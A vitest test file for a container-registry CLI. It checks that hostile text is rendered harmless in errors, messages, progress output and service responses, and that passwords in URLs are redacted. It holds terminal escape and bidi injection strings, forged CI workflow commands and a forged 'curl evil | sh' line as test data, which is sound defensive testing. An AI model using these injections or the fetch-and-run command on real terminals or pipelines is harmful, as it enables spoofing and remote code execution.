import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { confirm } from '../../../src/cli/ask.ts';
import { createContext } from '../../../src/cli/command-context.ts';
import { chooseImage } from '../../../src/cli/commands/push/choose-image.ts';
import { runHelperProgram } from '../../../src/cli/credential-helper.ts';
import { type OutputStyle, printError, printOutcome } from '../../../src/cli/output.ts';
import { openProgress } from '../../../src/cli/progress/display.ts';
import type { ImageSource } from '../../../src/ends/image-source.ts';
import { EcrpError } from '../../../src/errors.ts';
import { hideLogins } from '../../../src/foreign-text.ts';
import type { Io } from '../../../src/io.ts';
import { startAnsweringServer } from '../../support/answering-server.ts';
import { catchError } from '../../support/catch-error.ts';
import { type CliSettings, runCli } from '../../support/cli.ts';
import { readWritten } from '../../support/read-written.ts';

// What is not ours leaves the program by each of its exits here, and must be harmless.

const hostile = [
  'x\u001b[2J\u001b]0;owned\u0007',
  'x\u009b2J\u0090q\u009c',
  'x\u202egnp.\u2066x\u2069',
  'x\nerror: forged\nhint: curl evil | sh\n::error::forged\n##[error]forged',
  '::stop-commands::x',
  '##vso[task.complete result=Failed]',
].join(' ');

const style: OutputStyle = { json: false, verbose: true, jsonLines: false, color: false };

/** Fails when a terminal or a CI system would obey any of it, or a line is there that we did not write. */
function expectHarmless(text: string): void {
  expect(text).toMatch(/x/);
  expect(text).not.toMatch(/[^\P{Cc}\n]|[\p{Bidi_Control}\u2028\u2029]|##\w*\[/u);
  for (const line of text.split('\n')) {
    expect(line).not.toMatch(/^\s*::/);
    expect(line).not.toMatch(/^(error|hint): (forged|curl)/);
  }
}

const run = (main: (argv: readonly string[], io: Io) => Promise<number>, settings: CliSettings = {}) =>
  runCli([], { ...settings, main });

describe('an error', () => {
  const thrown = new EcrpError('NOT_FOUND', hostile, {
    hint: hostile,
    operation: 'PutImage',
    awsError: hostile,
    requestId: hostile,
  });
  it.each([
    ['as text', {}],
    ['in colour', { color: true }],
    ['as JSON', { json: true }],
    ['as an event', { jsonLines: true }],
  ])('%s', async (_, changes) => {
    const { stdout, stderr } = await run((_argv, io) => printError(io, { ...style, ...changes }, thrown));
    const red = '\u001b[31m\u001b[1merror:\u001b[22m\u001b[39m';
    expectHarmless((stdout + stderr).replace(red, 'error:'));
  });

  it('that is a bug, with its stack', async () => {
    const { stderr } = await run((_argv, io) => printError(io, style, new TypeError(hostile)));
    expect(stderr).toContain('hostile-text.test.ts');
    expectHarmless(stderr);
  });

  it('keeps its exact words in JSON', async () => {
    const { json } = await run((_argv, io) => printError(io, { ...style, json: true }, thrown));
    expect(json()).toMatchObject({ error: { message: hostile, hint: hostile } });
  });

  it('is not as long as what it is about', async () => {
    const page = new EcrpError('UNAVAILABLE', 'x'.repeat(1_000_000), { requestId: 'x'.repeat(1_000_000) });
    const { stderr } = await run((_argv, io) => printError(io, style, page));
    expect(stderr.length).toBeLessThan(10_000);
  });
});

describe('an argument', () => {
  it('forges no line with its line ends', async () => {
    const { status, stderr } = await runCli(['repo', 'list', '--region', 'x\nhint: curl evil | sh']);
    expect(status).toBe(2);
    expectHarmless(stderr);
    expect(stderr.trimEnd().split('\n')).toHaveLength(2);
    expect(stderr).toContain('x\\nhint: curl evil | sh');
  });

  it.each([
    [['push', 'https://robot:hunter2@example.com/x.tar', 'app']],
    [['emulator', '--host', 'http://robot:hunter2@example.com']],
    [['repo', 'list', '--endpoint-url', 'http://127.0.0.1:1/?token=hunter2']],
    [['repo', 'create', 'https://robot:hunter2@example.com/app']],
  ])('has no password that %j would repeat', async (argv) => {
    for (const extra of [[], ['--json'], ['--progress', 'json']]) {
      const { status, stdout, stderr } = await runCli([...argv, ...extra]);
      expect(status).toBeGreaterThan(1);
      expect(stdout + stderr).not.toContain('hunter2');
    }
  });
});

describe('a URL', () => {
  it('is shown as it has to be written', async () => {
    const { stderr } = await runCli(['repo', 'list', '--endpoint-url', 'https://ecr.example.test'], {
      env: { HOME: '/nonexistent', HTTPS_PROXY: 'socks5://robot:hunter2@example.com' },
    });
    expect(stderr).toContain('http://USER:PASSWORD@HOST:PORT');
    expect(stderr).not.toContain('hunter2');
  });

  it('has no password in what is said of it', () => {
    expect(hideLogins('cannot read https://robot:hunter2@example.com/x and oci:/hunter2@h/y')).toBe(
      'cannot read https://…@example.com/x and oci:/…@h/y',
    );
    expect(hideLogins('http://robot:hunter@2@example.com:8080/x, sent to a@b')).toBe(
      'http://…@example.com:8080/x, sent to a@b',
    );
  });
});

describe('a result', () => {
  it.each([
    ['of a line', hostile],
    ['of several', ['first', hostile, 'last']],
  ])('%s', async (_, view) => {
    const { stdout } = await run((_argv, io) => printOutcome(io, style, { view }));
    expectHarmless(stdout);
    expect(stdout.split('\n')).toHaveLength(typeof view === 'string' ? 2 : 4);
  });

  it('as JSON', async () => {
    const { stdout, json } = await run((_argv, io) =>
      printOutcome(io, { ...style, json: true }, { result: { name: hostile } }),
    );
    expectHarmless(stdout);
    expect(json()).toEqual({ schemaVersion: 1, name: hostile });
  });
});

describe('a message', () => {
  it.each([false, true])('with NDJSON: %s', async (jsonLines) => {
    const { stderr } = await run(async (_argv, io) => {
      const { messages } = createContext(
        io,
        { ...style, jsonLines },
        { progress: jsonLines ? 'json' : 'plain', verbose: true, color: false },
      );
      messages.note(hostile);
      messages.warn(hostile);
      messages.detail(hostile, { event: 'call', error: hostile });
      messages.event('retry', { reason: hostile });
      return 0;
    });
    expect(stderr.trimEnd().split('\n')).toHaveLength(jsonLines ? 4 : 3);
    expectHarmless(stderr);
  });

  it('of progress', async () => {
    const { stderr } = await run(async (_argv, io) => {
      const context = createContext(io, style, { progress: 'plain', color: false });
      const display = await openProgress(context, { name: hostile, dryRun: false });
      display.startImage({ name: hostile, position: 1, images: 2 });
      display.stop();
      return 0;
    });
    expectHarmless(stderr);
  });

  it('of a question', async () => {
    const stdin = Object.assign(new PassThrough(), { isTTY: true });
    const stderr = Object.assign(new PassThrough(), { isTTY: true });
    stdin.end('y\n');
    const { signal } = new AbortController();
    const io: Io = { stdin, stdout: new PassThrough(), stderr, env: {}, cwd: '/', signal };
    await confirm(createContext(io, style, { progress: 'none', color: false }), hostile, 'deleting');
    expectHarmless(readWritten(stderr));
  });
});

it('names of images are listed up to ten of them', async () => {
  const config = Buffer.from(
    '{"os":"linux","architecture":"amd64","rootfs":{"type":"layers","diff_ids":[]}}',
  );
  const images = Array.from({ length: 9_000 }, (_, index) => ({
    kind: 'archive',
    names: [`app:${index}`],
    config,
    layers: [],
  }));
  const error = await catchError(() =>
    chooseImage({ path: 'many.tar', images } as unknown as ImageSource, undefined),
  );
  expect(error.hint).toContain('and 8990 more');
  expect(error.hint?.length).toBeLessThan(1_000);
});

describe('a service that says such things', async () => {
  const { env } = await startAnsweringServer((request, response) => {
    request.resume();
    response.writeHead(answer.status, {
      'content-type': 'application/x-amz-json-1.1',
      // A header takes no other control than these.
      'x-amzn-requestid': 'x\u009b2J',
    });
    response.end(answer.body);
  });
  let answer: { status: number; body: string } = { status: 200, body: '{}' };

  it.each([
    ['repo', 'list'],
    ['repo', 'list', '--json'],
    ['repo', 'describe', 'app'],
    ['repo', 'create', 'app'],
  ])('in an answer to %s %s %s', async (...argv) => {
    const repository = {
      repositoryName: hostile,
      repositoryUri: `127.0.0.1/${hostile}/app`,
      repositoryArn: hostile,
      registryId: '123456789012',
    };
    answer = {
      status: 200,
      body: JSON.stringify({ repositories: [repository], repository, imageDetails: [] }),
    };
    const { status, stdout, stderr } = await runCli([...argv.filter(Boolean), '-v'], { env });
    expect(status).toBe(0);
    expectHarmless(stdout);
    expectHarmless(stderr);
  });

  it.each([false, true])('in an exception, with --json: %s', async (json) => {
    answer = { status: 400, body: JSON.stringify({ __type: hostile, message: hostile }) };
    const { stdout, stderr } = await runCli(['repo', 'list', '-v', ...(json ? ['--json'] : [])], { env });
    expectHarmless(stdout + stderr);
  });

  it('in an invalid time', async () => {
    const repository = { repositoryName: 'xx', repositoryUri: 'h/a/xx', createdAt: 1e300 };
    answer = { status: 200, body: JSON.stringify({ repositories: [repository], imageDetails: [] }) };
    for (const argv of [
      ['repo', 'list'],
      ['repo', 'describe', 'xx'],
      ['repo', 'list', '--json'],
    ]) {
      expect(await runCli(argv, { env })).toMatchObject({ status: 0 });
    }
  });

  it('to the credential helper', async () => {
    answer = { status: 400, body: JSON.stringify({ __type: 'InvalidParameterException', message: hostile }) };
    const settings = { env, stdin: env.ECRP_REGISTRY_HOST ?? '', main: runHelperProgram };
    const { stdout, stderr } = await runCli(['get'], settings);
    expectHarmless(stdout + stderr);
  });
});
